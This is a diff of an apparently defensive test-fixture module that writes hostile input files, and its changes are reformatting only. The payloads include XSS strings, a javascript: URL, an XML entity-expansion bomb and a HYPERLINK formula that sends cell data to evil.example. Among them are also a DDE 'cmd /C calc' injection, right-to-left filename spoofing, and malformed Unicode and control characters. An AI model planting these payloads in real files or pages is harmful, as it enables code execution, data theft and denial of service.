@@ -4,7 +4,7 @@ import gzip
 import json
 
 SCRIPT = "<script>document.title='owned';alert(1)</script><img src=x onerror=alert(2)>"
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
 ENTITY_BOMB = (
     '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa">'
     + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
@@ -18,18 +18,36 @@ def write_documents(folder):
     """Write them below the folder, one of each kind, and return their names."""
     fields = ("headline", "author", "outlet", "url", "language", "published")
     records = {
-        "scripts.json": {name: SCRIPT for name in fields} | {"text": f"{SCRIPT} Ada {SCRIPT} Lind sang. {ORDINARY}"},
-        "attributes.json": {name: "\" onmouseover=alert(3) x='" for name in fields} | {"text": ORDINARY},
+        "scripts.json": dict.fromkeys(fields, SCRIPT)
+        | {"text": f"{SCRIPT} Ada {SCRIPT} Lind sang. {ORDINARY}"},
+        "attributes.json": dict.fromkeys(fields, "\" onmouseover=alert(3) x='") | {"text": ORDINARY},
         "address.json": {"headline": "Address", "url": "javascript:alert(4)", "text": f"Here. {ORDINARY}"},
-        "formula.json": {"headline": FORMULA, "author": "@SUM(1+1)", "outlet": "+1+cmd|' /C calc'!A0", "text": f"-2+3 {ORDINARY}"},
-        "long-names.json": {name: "Ada " + "a" * MEGABYTE for name in fields} | {"text": f"Long. {ORDINARY}"},
-        "surrogates.json": {"headline": "Lone \ud800 and \udfff", "author": "\udc80 Ben", "text": f"\ud800 {ORDINARY} \udfff"},
+        "formula.json": {
+            "headline": FORMULA,
+            "author": "@SUM(1+1)",
+            "outlet": "+1+cmd|' /C calc'!A0",
+            "text": f"-2+3 {ORDINARY}",
+        },
+        "long-names.json": dict.fromkeys(fields, "Ada " + "a" * MEGABYTE) | {"text": f"Long. {ORDINARY}"},
+        "surrogates.json": {
+            "headline": "Lone \ud800 and \udfff",
+            "author": "\udc80 Ben",
+            "text": f"\ud800 {ORDINARY} \udfff",
+        },
         "controls.json": {
             "headline": "a\x00b\x08c\x1b[2Jd\x7fe\x85f\ufffeg\uffffh",
             "text": f"\x0b\x0c]]> <![CDATA[ &#0; &#x1F; {ORDINARY}\x01\x02",
         },
-        "directions.json": {"headline": "\u202egnp.exe\u202c \u2066Ada\u2067", "text": f"\u202e{ORDINARY}\u200f\u2069"},
-        "typed.json": {"headline": {"@value": ["x"]}, "author": [[[]], {"name": 7}], "published": 10**400, "text": [ORDINARY, 3.5]},
+        "directions.json": {
+            "headline": "\u202egnp.exe\u202c \u2066Ada\u2067",
+            "text": f"\u202e{ORDINARY}\u200f\u2069",
+        },
+        "typed.json": {
+            "headline": {"@value": ["x"]},
+            "author": [[[]], {"name": 7}],
+            "published": 10**400,
+            "text": [ORDINARY, 3.5],
+        },
     }
     texts = {
         "one-line.txt": f"{ORDINARY} " * 300,
